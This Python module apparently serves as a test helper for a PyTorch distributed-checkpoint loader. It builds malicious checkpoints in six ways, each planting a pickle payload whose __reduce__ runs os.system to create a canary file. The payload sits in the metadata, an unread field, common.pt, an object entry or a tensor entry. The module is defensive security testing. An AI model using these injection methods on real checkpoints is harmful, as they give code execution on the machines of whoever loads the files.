"""Checkpoints that somebody made to run code: the same attack in every place that holds a pickle."""

from __future__ import annotations

import dataclasses
import io
import os
import pickle
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch
from torch.distributed.checkpoint.metadata import BytesStorageMetadata, MetadataIndex, TensorStorageMetadata


class Payload:
    """Writes a file, the canary, when it is unpickled."""

    def __init__(self, canary: Path) -> None:
        self.canary = canary

    def __reduce__(self) -> Any:
        return os.system, (f"touch {self.canary}",)


def _read(folder: Path) -> Any:
    return pickle.loads((folder / ".metadata").read_bytes())


def _replace(folder: Path, metadata: Any, index: Any, content: bytes) -> None:
    """Put `content` at the end of the file that holds the entry, and let the table of contents point there."""
    info = metadata.storage_data[index]
    path = folder / info.relative_path
    metadata.storage_data[index] = dataclasses.replace(info, offset=path.stat().st_size, length=len(content))
    with path.open("ab") as stream:
        stream.write(content)
    (folder / ".metadata").write_bytes(pickle.dumps(metadata))


def _saved(payload: Any) -> bytes:
    stream = io.BytesIO()
    torch.save(payload, stream)
    return stream.getvalue()


def in_metadata(folder: Path, canary: Path) -> None:
    """The table of contents itself."""
    (folder / ".metadata").write_bytes(pickle.dumps(Payload(canary)))


def beside_the_metadata(folder: Path, canary: Path) -> None:
    """A valid table of contents with a payload in a field that nobody reads."""
    metadata = _read(folder)
    metadata.planner_data = Payload(canary)
    (folder / ".metadata").write_bytes(pickle.dumps(metadata))


def in_common(folder: Path, canary: Path) -> None:
    """The part that is not sharded: schedule, groups of the optimizer, random states."""
    torch.save({"optimizer": Payload(canary)}, folder / "common.pt")


def in_an_object(folder: Path, canary: Path) -> None:
    """The state of a layer beside its weights."""
    metadata = _read(folder)
    objects = [k for k, v in metadata.state_dict_metadata.items() if isinstance(v, BytesStorageMetadata)]
    for index in [index for index in metadata.storage_data if index.fqn == objects[0]]:
        _replace(folder, metadata, index, _saved(Payload(canary)))


def in_a_tensor(folder: Path, canary: Path) -> None:
    """A weight."""
    metadata = _read(folder)
    for index in [index for index in metadata.storage_data if index.fqn.endswith("word_embeddings.weight")]:
        _replace(folder, metadata, index, _saved(Payload(canary)))


def in_a_tensor_called_an_object(folder: Path, canary: Path) -> None:
    """A weight that the table of contents calls an object, which is read by another function."""
    metadata = _read(folder)
    name = next(
        name
        for name, kind in metadata.state_dict_metadata.items()
        if isinstance(kind, TensorStorageMetadata) and name.endswith("word_embeddings.weight")
    )
    metadata.state_dict_metadata[name] = BytesStorageMetadata()
    [old, *_] = [index for index in metadata.storage_data if index.fqn == name]
    metadata.storage_data[MetadataIndex(name)] = metadata.storage_data[old]
    _replace(folder, metadata, MetadataIndex(name), _saved(Payload(canary)))


ATTACKS: dict[str, Callable[[Path, Path], None]] = {
    attack.__name__: attack
    for attack in (
        in_metadata,
        beside_the_metadata,
        in_common,
        in_an_object,
        in_a_tensor,
        in_a_tensor_called_an_object,
    )
}
